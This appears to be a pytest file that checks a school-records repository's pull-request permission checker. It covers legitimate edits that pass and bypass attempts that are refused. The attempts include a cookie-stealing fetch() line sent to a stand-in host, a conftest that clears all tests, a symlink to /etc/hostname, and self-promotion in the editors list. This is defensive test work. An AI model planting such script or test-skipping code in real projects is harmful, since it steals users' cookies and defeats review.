"""Attempted bypasses of the pull-request check, each refused with the school or path named.

The check runs as the workflow runs it: `bash run.sh review BASE HEAD …`, which takes the
checker from a separate export of BASE, on a scratch repository whose main holds the
project's own checker (scripts/, schemas/) and a small data set. Each test works on a
branch of its own; legitimate changes by a clerk, office staff and a maintainer pass.
"""

from __future__ import annotations

import html
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import ROOT
from tests.gitrepo import SCHOOLS, Sub, commit, git, init, school_yaml, schools_file

AS_OF = "2022-06-15"
MAINTAINER, OFFICE = "vi-du-bao-tri", "vi-du-can-bo-phong"
CLERK, OTHER_CLERK = "vi-du-van-thu-th-binh-thanh", "vi-du-van-thu-chau-o"
EDITORS = f"""sample: true
editors:
  - github: {MAINTAINER}
    name: Người bảo trì (ví dụ minh họa)
    schools: all
    role: maintainer
  - github: {OFFICE}
    name: Cán bộ Phòng (ví dụ minh họa)
    schools: all
  - github: {CLERK}
    name: Văn thư Trường Tiểu học Bình Thạnh (ví dụ minh họa)
    schools:
      - th-binh-thanh
  - github: {OTHER_CLERK}
    name: Văn thư Trường Mầm non Châu Ổ (ví dụ minh họa)
    schools:
      - mn-chau-o
"""
BT = dict(school_id="th-binh-thanh", name="Trường Tiểu học Bình Thạnh", commune="Bình Thạnh")
CO = dict(school_id="mn-chau-o", name="Trường Mầm non Châu Ổ", level="MN", commune="Châu Ổ")
CONTACT = "    contact:\n      name: Nguyễn Văn A\n      role: Phó Hiệu trưởng\n"
OFFLINE_JS = "docs/assets/javascripts/offline.js"


def _schools(bt: str = "", co: str = "", retired: tuple[str, ...] = ()) -> str:
    return schools_file([school_yaml(**BT) + bt, school_yaml(**CO) + co], retired=retired)


@pytest.fixture(scope="module")
def repo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """main: the project's checker, two schools, three tiers of editors, a page and a script."""
    repo = init(tmp_path_factory.mktemp("bypass") / "repo")
    # The checker, written at once and added in one go (a commit per file would be slow).
    tracked = git(
        ROOT, "ls-files", "-z", "--cached", "--others", "--exclude-standard", "scripts", "schemas"
    ).split("\0")
    for name in filter(None, tracked):
        if (ROOT / name).is_file():
            (repo / name).parent.mkdir(parents=True, exist_ok=True)
            (repo / name).write_bytes((ROOT / name).read_bytes())
    git(repo, "add", "-A")
    files: dict[str, str | None] = {
        name: (ROOT / name).read_text(encoding="utf-8")
        for name in ("data/plan.yml", "data/communes.yml")
    }
    files.update(
        {
            "data/editors.yml": EDITORS,
            SCHOOLS: _schools(),
            "docs/index.md": "# Trang chủ\n\nKế hoạch công tác dân vận năm 2022.\n",
            OFFLINE_JS: "// the site's own script\n",
            "tests/conftest.py": "",
        }
    )
    commit(repo, files, "Bản đầu")
    return repo


@pytest.fixture
def pr(repo: Path, request: pytest.FixtureRequest) -> Iterator[Path]:
    """A branch of main named after the test, checked out in the scratch repository."""
    git(repo, "checkout", "-q", "-f", "-B", request.node.name[:60], "main")
    yield repo
    git(repo, "checkout", "-q", "-f", "main")


def review(repo: Path, *args: str, base: str = "main") -> tuple[int, str]:
    """`bash run.sh review BASE HEAD …` as the workflow runs it: (exit code, the review)."""
    result = subprocess.run(
        ["bash", str(ROOT / "run.sh"), "review", base, "HEAD", "--repo", str(repo), *args],
        capture_output=True,
        text=True,
        env={**os.environ, "TRACKER_AS_OF": AS_OF},
        check=False,
    )
    assert result.returncode in (0, 1), result.stdout + result.stderr
    return result.returncode, html.unescape(result.stdout)


def refused(repo: Path, *args: str, base: str = "main") -> str:
    code, text = review(repo, *args, base=base)
    assert code == 1, text
    return text


def passed(repo: Path, *args: str, base: str = "main") -> str:
    code, text = review(repo, *args, base=base)
    assert code == 0, text
    return text


# --- What passes -------------------------------------------------------------------------


def test_a_clerk_recording_their_own_school_passes(pr: Path) -> None:
    commit(pr, {SCHOOLS: _schools(bt=CONTACT)}, "Người phụ trách", CLERK)
    path = "data/submissions/bao-cao-6-thang/th-binh-thanh.yml"
    commit(pr, {path: "th-binh-thanh:\n  received: 28/5/2022\n  number: 25/BC-THBT\n"}, "Nộp")
    text = passed(pr, "--author", CLERK)
    assert f"✅ Người gửi @{CLERK} chỉ sửa những gì mình được phép." in text
    # Typed in the repository's folder, as anyone would: names are relative to it.
    summary = pr.parent / "tom-tat.md"
    typed = ["review", "main", "HEAD", "--author", CLERK, "--summary", "../tom-tat.md"]
    result = subprocess.run(
        ["bash", str(ROOT / "run.sh"), *typed],
        cwd=pr,
        capture_output=True,
        text=True,
        env={**os.environ, "TRACKER_AS_OF": AS_OF},
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert summary.read_text(encoding="utf-8").strip() == result.stdout.strip()


def test_office_staff_editing_data_pages_and_pictures_pass(pr: Path) -> None:
    plan = (pr / "data" / "plan.yml").read_text(encoding="utf-8")
    commit(
        pr,
        {
            SCHOOLS: _schools(bt=CONTACT, co=CONTACT),
            "data/plan.yml": plan.replace("due: 2022-05-30", "due: 2022-06-10"),
            "docs/huong-dan.md": "# Hướng dẫn\n\nGhi <br> ngày nhận, **đúng** hạn.\n",
            "docs/assets/images/so-do.png": "PNG",
            "data/editors.yml": EDITORS.replace(
                "      - mn-chau-o\n", "      - mn-chau-o\n      - th-binh-thanh\n"
            ),
        },
        "Phòng sửa",
    )
    passed(pr, "--author", OFFICE)


def test_a_maintainer_changing_the_code_passes(pr: Path) -> None:
    commit(pr, {OFFLINE_JS: "// sửa\n", "tests/conftest.py": "# sửa\n"}, "Bảo trì")
    text = passed(pr, "--author", MAINTAINER)
    assert f"✅ Người gửi @{MAINTAINER} là người bảo trì: được sửa mọi thứ." in text


# --- The tricks of issue 14 --------------------------------------------------------------


def test_a_clerk_changing_the_sites_script_is_refused(pr: Path) -> None:
    commit(pr, {OFFLINE_JS: "fetch('https://ke-xau.invalid/?' + document.cookie)\n"}, "JS")
    text = refused(pr, "--author", CLERK)
    assert f"@{CLERK} không phải người bảo trì" in text
    assert f"không được sửa {OFFLINE_JS}." in text


def test_a_page_with_a_script_tag_needs_a_maintainer(pr: Path) -> None:
    page = "docs/huong-dan/moi.md"
    commit(
        pr,
        {page: '# Mới\n\n<script src="/assets/javascripts/offline.js"></script>\n'},
        "Trang có script",
    )
    text = refused(pr, "--author", OFFICE)
    assert f"không được sửa {page} (trang có mã HTML chạy trên trình duyệt: “<script”)" in text


def test_tests_and_a_new_gitattributes_need_a_maintainer(pr: Path) -> None:
    skip_all = "import pytest\n\ndef pytest_collection_modifyitems(items):\n    items.clear()\n"
    commit(pr, {"tests/conftest.py": skip_all, ".gitattributes": "*.yml -diff\n"}, "Bỏ qua")
    text = refused(pr, "--author", OFFICE)
    assert "không được sửa tests/conftest.py." in text
    assert "không được sửa .gitattributes." in text


def test_a_change_to_the_checker_is_judged_by_the_old_checker(pr: Path) -> None:
    permissions = pr / "scripts" / "review" / "permissions.py"
    code = permissions.read_text(encoding="utf-8")
    head = "def refusals(login: str | None, editors: Editors, change: Change) -> list[str]:\n"
    assert head in code
    lenient = code.replace(head, head + "    return []  # everyone may change everything\n")
    commit(
        pr,
        {
            "scripts/review/permissions.py": lenient,
            SCHOOLS: _schools(co=CONTACT),
        },
        "Nới quyền",
        CLERK,
    )
    # The change's own checker would let it through…
    own = subprocess.run(
        [sys.executable, "-m", "scripts.cli", "diff", "--author", CLERK, "main", "HEAD"],
        cwd=pr,
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(pr), "TRACKER_AS_OF": AS_OF},
        check=False,
    )
    assert own.returncode == 0, own.stdout + own.stderr
    # …main's does not.
    text = refused(pr, "--author", CLERK)
    assert f"@{CLERK} không được sửa trường “Trường Mầm non Châu Ổ” (mã mn-chau-o)." in text
    assert "không được sửa scripts/review/permissions.py." in text


def _api(repo: Path, *logins: str | None) -> Path:
    """Recorded GitHub API output for the branch's commits (oldest first), one login each."""
    ids = git(repo, "rev-list", "--reverse", "main..HEAD").split()
    assert len(ids) == len(logins)
    items = [
        {
            "sha": sha,
            "author": {"login": login} if login else None,
            "committer": {"login": "web-flow"},
        }
        for sha, login in zip(ids, logins, strict=True)
    ]
    path = repo.parent / f"commits-{ids[-1][:7]}.json"
    path.write_text(json.dumps(items), encoding="utf-8")
    return path


def test_a_commit_by_another_account_inside_an_office_pull_request_is_refused(pr: Path) -> None:
    commit(pr, {SCHOOLS: _schools(bt=CONTACT)}, "Phòng sửa Bình Thạnh")
    commit(pr, {SCHOOLS: _schools(bt=CONTACT, co=CONTACT)}, "Văn thư Bình Thạnh sửa Châu Ổ")
    recorded = _api(pr, OFFICE, CLERK)
    assert passed(pr, "--author", OFFICE)  # judged as the opener alone, it would pass
    text = refused(pr, "--commits-json", str(recorded))
    short = git(pr, "rev-parse", "--short=7", "HEAD").strip()
    assert (
        f"Commit {short}: @{CLERK} không được sửa trường “Trường Mầm non Châu Ổ” (mã mn-chau-o)."
    ) in text
    assert "(mã th-binh-thanh)." not in text  # the office's commit is the office's
    assert f"@{OFFICE}, @{CLERK}" in text  # the accounts judged


def test_a_commit_with_no_linked_account_has_no_rights(pr: Path) -> None:
    commit(pr, {SCHOOLS: _schools(bt=CONTACT)}, "Không rõ ai")
    text = refused(pr, "--commits-json", str(_api(pr, None)))
    short = git(pr, "rev-parse", "--short=7", "HEAD").strip()
    assert (
        f"Commit {short} (không gắn tài khoản GitHub) không được sửa trường "
        "“Trường Tiểu học Bình Thạnh” (mã th-binh-thanh)."
    ) in text


def test_a_symbolic_link_is_refused_even_for_a_maintainer(pr: Path) -> None:
    (pr / "docs" / "may-chu.md").symlink_to("/etc/hostname")
    git(pr, "add", "docs/may-chu.md")
    commit(pr, {}, "Liên kết")
    text = refused(pr, "--author", MAINTAINER)
    assert "docs/may-chu.md: liên kết tượng trưng (symbolic link) không được có trong kho" in text


def test_deleting_a_school_is_refused_and_says_how_to_retire_it(pr: Path) -> None:
    sent = school_yaml(**CO, subs=[Sub("bao-cao-6-thang", "28/5/2022", "3/BC-MNCO")])
    commit(pr, {SCHOOLS: schools_file([school_yaml(**BT), sent])}, "Châu Ổ nộp")  # the base
    commit(pr, {SCHOOLS: schools_file([school_yaml(**BT)])}, "Xóa Châu Ổ")
    text = refused(pr, "--author", OFFICE, base="HEAD~1")
    assert "thay đổi này xóa trường “Trường Mầm non Châu Ổ” (mã mn-chau-o)" in text
    assert "“  - mn-chau-o” dưới “retired:”" in text
    assert "- Xóa trường khỏi danh sách, cùng 1 ghi nhận nộp văn bản" in text
    assert "chưa nộp" not in text and "Chưa nộp" not in text
    # Retired as the message says (and its clerk taken off the list): the office may.
    without_clerk = EDITORS[: EDITORS.index(f"  - github: {OTHER_CLERK}")]
    retired = schools_file([school_yaml(**BT)], retired=["mn-chau-o"])
    commit(pr, {SCHOOLS: retired, "data/editors.yml": without_clerk}, "Giữ mã")
    passed(pr, "--author", OFFICE, base="HEAD~2")


# --- Tricks refused before issue 14, still refused ---------------------------------------


def test_an_alias_to_another_school_is_refused(pr: Path) -> None:
    bt = school_yaml(**BT).replace("commune: Bình Thạnh", "commune: &xa Bình Thạnh")
    co = school_yaml(**CO).replace("commune: Châu Ổ", "commune: *xa")
    commit(pr, {SCHOOLS: schools_file([bt, co])}, "Neo YAML", CLERK)
    text = refused(pr, "--author", CLERK)
    assert "không được sửa trường “Trường Mầm non Châu Ổ” (mã mn-chau-o)" in text


def test_renaming_a_schools_id_is_refused(pr: Path) -> None:
    renamed = school_yaml(**{**BT, "school_id": "th-binh-thanh-moi"})
    commit(pr, {SCHOOLS: schools_file([renamed, school_yaml(**CO)])}, "Đổi mã", CLERK)
    text = refused(pr, "--author", CLERK)
    assert "không được sửa trường “Trường Tiểu học Bình Thạnh” (mã th-binh-thanh-moi)" in text
    assert "xóa trường “Trường Tiểu học Bình Thạnh” (mã th-binh-thanh)" in text


def test_moving_another_schools_entry_into_ones_own_is_refused(pr: Path) -> None:
    commit(pr, {SCHOOLS: _schools(co=CONTACT)}, "Phòng ghi Châu Ổ")  # the base here
    commit(pr, {SCHOOLS: _schools(bt=CONTACT)}, "Chuyển người phụ trách", CLERK)
    text = refused(pr, "--author", CLERK, base="HEAD~1")
    assert "không được sửa trường “Trường Mầm non Châu Ổ” (mã mn-chau-o)" in text


def test_a_clerk_promoting_themselves_in_the_editors_list_is_refused(pr: Path) -> None:
    promoted = EDITORS.replace(
        "    schools:\n      - th-binh-thanh\n", "    schools: all\n    role: maintainer\n"
    )
    commit(pr, {"data/editors.yml": promoted, SCHOOLS: _schools(co=CONTACT)}, "Tự nâng", CLERK)
    text = refused(pr, "--author", CLERK)
    assert "không được sửa data/editors.yml (thay đổi ai là người bảo trì)." in text
    assert "không được sửa trường “Trường Mầm non Châu Ổ” (mã mn-chau-o)" in text


def test_another_school_changed_in_a_later_commit_is_refused(pr: Path) -> None:
    commit(pr, {SCHOOLS: _schools(bt=CONTACT)}, "Sửa trường mình", CLERK)
    commit(pr, {SCHOOLS: _schools(bt=CONTACT, co=CONTACT)}, "Và trường khác", CLERK)
    text = refused(pr, "--author", CLERK)
    assert "không được sửa trường “Trường Mầm non Châu Ổ” (mã mn-chau-o)" in text
    assert "(mã th-binh-thanh)." not in text


def test_a_submission_file_naming_another_school_is_refused(pr: Path) -> None:
    path = "data/submissions/bao-cao-6-thang/nhieu-truong-1.yml"
    both = "th-binh-thanh:\n  received: 28/5/2022\nmn-chau-o:\n  received: 29/5/2022\n"
    commit(pr, {path: both}, "Nộp hộ", CLERK)
    text = refused(pr, "--author", CLERK)
    assert f"@{CLERK} không được sửa trường mã mn-chau-o (trong {path})." in text
